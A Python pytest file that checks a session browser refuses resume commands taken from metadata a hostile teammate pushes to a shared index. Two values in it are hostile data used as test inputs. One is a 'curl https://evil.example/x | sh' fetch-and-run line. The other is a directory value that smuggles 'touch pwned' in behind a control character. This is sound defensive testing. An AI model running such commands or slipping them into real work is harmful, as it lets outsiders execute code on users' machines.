"""The resume line of a session read from the team index is made from the kind of source that
pushed it, its id and its dir: what a teammate pushed in its metadata never chooses it."""

from __future__ import annotations

import json
from pathlib import Path

import psycopg
import pytest
from click.testing import CliRunner

from session_browser.cli import main
from session_browser.core.pgindex import PgIndexStore, push_stores
from session_browser.core.resume_line import ResumeLine, ResumeRefused
from session_browser.core.sources import SOURCES
from session_browser.tui.backend import Backend
from tests.core.test_claude import CWD, Transcript, text

from .corpus import put

SID = "0a1b2c3d-1111-2222-3333-444455556666"
EVIL = "cd /tmp && curl https://evil.example/x | sh"


def _pushed(tmp_path: Path, url: str) -> None:
    """A Claude Code session and a PraisonAI session whose metadata names a command."""
    t = Transcript(SID)
    t.prompt("where is the heronword config")
    t.answer("m1", text("In etc."))
    t.write(tmp_path / "claude" / "proj" / f"{SID}.jsonl")
    plain = tmp_path / "praisonai"
    plain.mkdir()
    put(plain, "praison1", ["the egretword plan", "done"], metadata={"resume_command": EVIL})
    push_stores(
        url,
        [
            (SOURCES["claude"].source(tmp_path / "claude"), "claude"),
            (SOURCES["praisonai"].source(plain), "praisonai"),
        ],
    )


def _tamper(url: str, session_id: str, **meta: object) -> None:
    """What a hostile teammate can push: any metadata in the session's data."""
    with psycopg.connect(url, autocommit=True) as conn:
        row = conn.execute("SELECT data FROM sb_sessions WHERE session_id = %s", (session_id,))
        data = json.loads(row.fetchone()[0])  # type: ignore[index]
        data["metadata"].update(meta)
        conn.execute(
            "UPDATE sb_sessions SET data = %s WHERE session_id = %s",
            (json.dumps(data), session_id),
        )


def _show(session_id: str) -> tuple[str, dict[str, object]]:
    res = CliRunner().invoke(main, ["show", session_id])
    assert res.exit_code == 0, res.output
    as_json = CliRunner().invoke(main, ["show", session_id, "--json"])
    assert as_json.exit_code == 0, as_json.output
    return res.stdout, json.loads(as_json.stdout)


def test_pushed_metadata_does_not_choose_the_resume_line(
    tmp_path: Path, pg_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    _pushed(tmp_path, pg_url)
    _tamper(pg_url, SID, resume_command=EVIL)
    monkeypatch.setenv("SESSION_BROWSER_INDEX_URL", pg_url)

    store = PgIndexStore(pg_url)
    try:
        assert store.session_kind(SID) == "claude"
        assert store.session_kind("praison1") == "praisonai"
        assert store.session_kind("nosuch") is None
    finally:
        store.close()

    line = f"cd {CWD} && claude --resume {SID}"
    out, payload = _show(SID)
    assert f"resume: {line}" in out and "curl" not in out
    assert payload["resume"] == line and "resume_refused" not in payload
    # A PraisonAI session has no resume command, whatever its metadata says.
    out, payload = _show("praison1")
    assert "resume:" not in out and "curl" not in out
    assert "resume" not in payload and "resume_refused" not in payload

    backend = Backend([pg_url])
    try:
        assert backend.resume_of(SID) == ResumeLine(line)
        assert backend.resume_of("praison1") is None
    finally:
        backend.close()


def test_a_hostile_pushed_dir_is_refused(
    tmp_path: Path, pg_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    _pushed(tmp_path, pg_url)
    _tamper(pg_url, SID, cwd="/srv/x\x15touch pwned\r#")
    monkeypatch.setenv("SESSION_BROWSER_INDEX_URL", pg_url)
    reason = "the session's dir holds a control character (U+0015)"
    out, payload = _show(SID)
    assert f"resume: not offered: {reason}" in out and "pwned" not in out.split("resume:")[1]
    assert payload["resume_refused"] == reason and "resume" not in payload
    backend = Backend([pg_url])
    try:
        assert backend.resume_of(SID) == ResumeRefused(reason)
    finally:
        backend.close()
